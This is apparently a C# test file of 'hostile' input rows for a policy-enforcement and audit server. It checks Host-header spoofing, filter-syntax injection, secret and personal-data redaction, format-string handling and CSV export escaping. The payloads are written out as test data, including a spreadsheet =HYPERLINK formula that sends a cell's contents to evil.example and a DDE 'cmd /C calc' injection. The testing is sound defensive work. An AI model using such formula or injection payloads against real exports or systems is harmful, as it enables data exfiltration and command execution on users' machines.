using System.Globalization;
using System.Text;
using ControlZero.Cli.Audit;
using ControlZero.Protocol.V1;
using ControlZero.Server.Tests.Hosting;
using ControlZero.Server.Tests.Hostile.Transport;
using CsvHelper;
using Google.Protobuf;
using Google.Protobuf.WellKnownTypes;
using Grpc.Core;

namespace ControlZero.Server.Tests.Hostile.Rows;

/// <summary>Groups I and J as far as this build has what they attack.</summary>
internal static class OutputRows
{
    public static Dictionary<string, RowRun> All { get; } = new()
    {
        ["I14"] = new(ForeignHostAsync),
        ["I01"] = FilterSyntax("x\" OR 1=1"),
        ["I02"] = FilterSyntax("PartitionKey ge ''"),
        ["I03"] = new(TimeRangesAsync, "a page costs the same however long its range is, so only a range that ends before it begins is refused"),
        ["I06"] = new(SuspendedUnderLoadAsync, "design.md section 5 has SuspendTenant in the place of DeleteTenant: a deny with its reason, and all of it comes back"),
        ["J01"] = new(target => KeptAsync(target, "x\n{\"effect\":\"ALLOW\"}")),
        ["J03"] = new(target => KeptAsync(target, "\u2028\u2029")),
        ["J05"] = new(async target =>
        {
            await RedactedAsync(target, $"sk-ant-{new string('a', 40)}", "[REDACTED:secret]");
            await RedactedAsync(target, $"ghp_{new string('a', 36)}", "[REDACTED:secret]");
            await RedactedAsync(target, $"AKIA{new string('A', 16)}", "[REDACTED:secret]");
            await RedactedAsync(target, "-----BEGIN PRIVATE KEY-----\nabc", "[REDACTED:secret]");
        }),
        ["J06"] = new(
            async target =>
            {
                await RedactedAsync(target, "4111 1111 1111 1111", "[REDACTED:pan]");
                await RedactedAsync(target, "123-45-6789", "[REDACTED:ssn]");
                await RedactedAsync(target, "alice@example.com", "[REDACTED:email]");
                await RedactedAsync(target, "+1 (415) 555-0100", "[REDACTED:phone]");
            },
            "no keyed HMAC is kept beside a mark: it would need a key that all silos share"),
        ["J07"] = new(async target =>
        {
            foreach (var missed in new[] { $"ghp_{new string('a', 9)}", Convert.ToBase64String(Encoding.ASCII.GetBytes($"ghp_{new string('a', 36)}")), "４１１１１１１１１１１１１１１１" })
            {
                await KeptAsync(target, missed);
            }
        }),
        ["J04"] = new(target => target.FailsAsync(
            target.Enforcement.EnforceAsync(
                HostileTarget.Ask(request => request.Context = new Struct { Fields = { ["k"] = Value.ForString(new string('x', 10 << 20)) } }),
                target.Headers),
            StatusCode.ResourceExhausted,
            null), "the row names no status; the limit on the message refuses it before anything reads it"),
        ["J08"] = new(KeyOnDiskAsync),
        ["J10"] = new(async target =>
        {
            foreach (var formula in (string[])["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"])
            {
                await ExportedAsync(target, formula);
            }
        }),
        ["J12"] = new(TemplatesAsync),
    };

    private static async Task ForeignHostAsync(HostileTarget target)
    {
        using var client = new HttpClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri(target.Server.Http, "/health/ready")) { Headers = { Host = "evil.com" } };
        using var response = await client.SendAsync(request);
        Assert.Equal(400, (int)response.StatusCode);

        await using var raw = await RawHttp2.ConnectAsync(target.Server.Grpc);
        var answer = await raw.CallAsync(
            RawHttp2.EnforcePath, HostileTarget.Ask().ToByteArray(), [RawHttp2.Key(target.Key)], authority: "evil.com");
        Assert.True(answer.HttpStatus == 400, answer.ToString());
    }

    private static async Task SuspendedUnderLoadAsync(HostileTarget target)
    {
        var (tenant, key) = await target.Server.NewTenantWithAsync("name: p\nrules: [{allow: '*'}]");
        var headers = target.Server.With(key);
        var allowed = await target.Enforcement.EnforceAsync(HostileTarget.Ask(), headers);
        var (isSuspended, isOver) = (false, false);
        var traffic = Enumerable.Range(0, 4).Select(_ => AskOnAsync()).ToList();
        try
        {
            await target.Tenants.SuspendTenantAsync(new SuspendTenantRequest { TenantId = tenant }, target.Server.With());

            Volatile.Write(ref isSuspended, true);
            var after = await Task.WhenAll(Enumerable.Range(0, 100).Select(_ => target.Enforcement.EnforceAsync(HostileTarget.Ask(), headers).ResponseAsync));
            Assert.All(after, answer => Assert.Equal((Decision.Deny, "TENANT_SUSPENDED"), (answer.Decision, answer.ReasonCode)));
        }
        finally
        {
            Volatile.Write(ref isOver, true);
        }

        Assert.Equal(0, (await Task.WhenAll(traffic)).Sum());
        var kept = await target.Audit.GetDecisionAsync(new GetDecisionRequest { DecisionId = allowed.DecisionId }, headers);
        Assert.Equal(Decision.Allow, Assert.Single(kept.Events).Decision);
        await target.Tenants.ResumeTenantAsync(new ResumeTenantRequest { TenantId = tenant }, target.Server.With());
        Assert.Equal(Decision.Allow, (await target.Enforcement.EnforceAsync(HostileTarget.Ask(), headers)).Decision);

        // Gives how many calls were allowed that began after the suspension was in force.
        async Task<int> AskOnAsync()
        {
            var late = 0;
            while (!Volatile.Read(ref isOver))
            {
                var begunLate = Volatile.Read(ref isSuspended);
                var answer = await target.Enforcement.EnforceAsync(HostileTarget.Ask(), headers);
                late += begunLate && answer.Decision == Decision.Allow ? 1 : 0;
            }

            return late;
        }
    }

    private static RowRun FilterSyntax(string text) => new(async target =>
    {
        await target.FailsAsync(
            target.Audit.QueryEventsAsync(new QueryEventsRequest { Filter = new EventFilter { AgentId = text } }, target.Headers), StatusCode.InvalidArgument, "FILTER_SYNTAX");
        await target.FailsAsync(
            target.Audit.QueryEventsAsync(new QueryEventsRequest { Filter = new EventFilter { Effect = text } }, target.Headers), StatusCode.InvalidArgument, "FILTER_SYNTAX");

        // Names may be spelled so: they are held against names and find nothing.
        await target.DecideAsync(HostileTarget.Ask());
        var found = await target.Audit.QueryEventsAsync(
            new QueryEventsRequest { Filter = new EventFilter { Policy = text, RuleId = text, Model = text } }, target.Headers);
        Assert.Empty(found.Events);
    });

    private static async Task TimeRangesAsync(HostileTarget target)
    {
        var (early, late) = (new Timestamp { Seconds = 0 }, new Timestamp { Seconds = 4_102_444_800 });
        await target.FailsAsync(
            target.Audit.QueryEventsAsync(new QueryEventsRequest { From = late, To = early }, target.Headers), StatusCode.InvalidArgument, "TIME_RANGE");

        var answer = await target.DecideAsync(HostileTarget.Ask());
        var found = await target.Audit.QueryEventsAsync(new QueryEventsRequest { From = early, To = late }, target.Headers);
        Assert.Equal(answer.DecisionId, Assert.Single(found.Events).DecisionId);
    }

    // The value is in the event as it was sent, and its line is one line of plain characters.
    private static Task KeptAsync(HostileTarget target, string value) => RedactedAsync(target, value, value);

    private static async Task RedactedAsync(HostileTarget target, string value, string kept)
    {
        var answer = await target.DecideAsync(HostileTarget.Ask(request =>
            request.Context = new Struct { Fields = { [RunningServer.KeptContextKey] = Value.ForString(value) } }));

        var found = await target.Audit.GetDecisionAsync(new GetDecisionRequest { DecisionId = answer.DecisionId }, target.Headers);
        Assert.Equal(kept, Assert.Single(found.Events).Context[RunningServer.KeptContextKey]);
        var line = Assert.Single(LinesOf(target.Server.Data), line => line.Contains(answer.DecisionId, StringComparison.Ordinal));
        Assert.All(line, letter => Assert.InRange(letter, ' ', '~'));
        Assert.True(kept == value || !line.Contains(value, StringComparison.Ordinal), line);
    }

    // As a caller sends it, and as a policy may say it.
    private static async Task ExportedAsync(HostileTarget target, string formula)
    {
        var answer = await target.DecideAsync(HostileTarget.Ask(request => request.Resource = formula.Trim()));
        var found = await target.Audit.GetDecisionAsync(new GetDecisionRequest { DecisionId = answer.DecisionId }, target.Headers);
        using var text = new StringWriter();
        EventCsv.Write(text, [.. found.Events, new AuditEvent(found.Events[0]) { Reason = formula }], isFirst: true);

        using var csv = new CsvReader(new StringReader(text.ToString()), CultureInfo.InvariantCulture);
        var rows = csv.GetRecords<dynamic>().Select(row => (IDictionary<string, object>)row).ToList();
        Assert.Equal((2, $"'{formula.Trim()}", $"'{formula}"), (rows.Count, rows[0]["resource"], rows[1]["reason"]));
        Assert.All(rows.SelectMany(row => row.Values).Cast<string>(), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
    }

    private static List<string> LinesOf(string data)
    {
        var lines = new List<string>();
        foreach (var file in Directory.EnumerateFiles(Path.Combine(data, "audit"), "*.jsonl*", SearchOption.AllDirectories))
        {
            using var reader = new StreamReader(new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete));
            lines.AddRange(reader.ReadToEnd().Split('\n'));
        }

        return lines;
    }

    private static async Task KeyOnDiskAsync(HostileTarget target)
    {
        await target.DecideAsync(HostileTarget.Ask());

        var secret = Encoding.ASCII.GetBytes(target.Key.Split('_')[3]);
        // The log's own copy for a crash is held by the server; its lines are those of the segments.
        foreach (var file in Directory.EnumerateFiles(target.Server.Data, "*", SearchOption.AllDirectories)
            .Where(file => Path.GetFileName(file) != "lock" && Path.GetExtension(file) != ".wal"))
        {
            await using var stream = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
            var bytes = new byte[stream.Length];
            await stream.ReadExactlyAsync(bytes);
            Assert.True(bytes.AsSpan().IndexOf(secret) < 0, $"{Path.GetFileName(file)} holds the key");
        }
    }

    private static async Task TemplatesAsync(HostileTarget target)
    {
        foreach (var text in new[] { "{UserName}", "%s%n", "{0}", "{", "}}{{" })
        {
            var answer = await target.DecideAsync(HostileTarget.Ask(request =>
            {
                (request.Action, request.Resource, request.RequestId) = ("tool.read", $"file/{text}", text);
                request.Context = ContextRows.With(text);
            }));
            Assert.Equal((Decision.Allow, text), (answer.Decision, answer.RequestId));
        }
    }
}
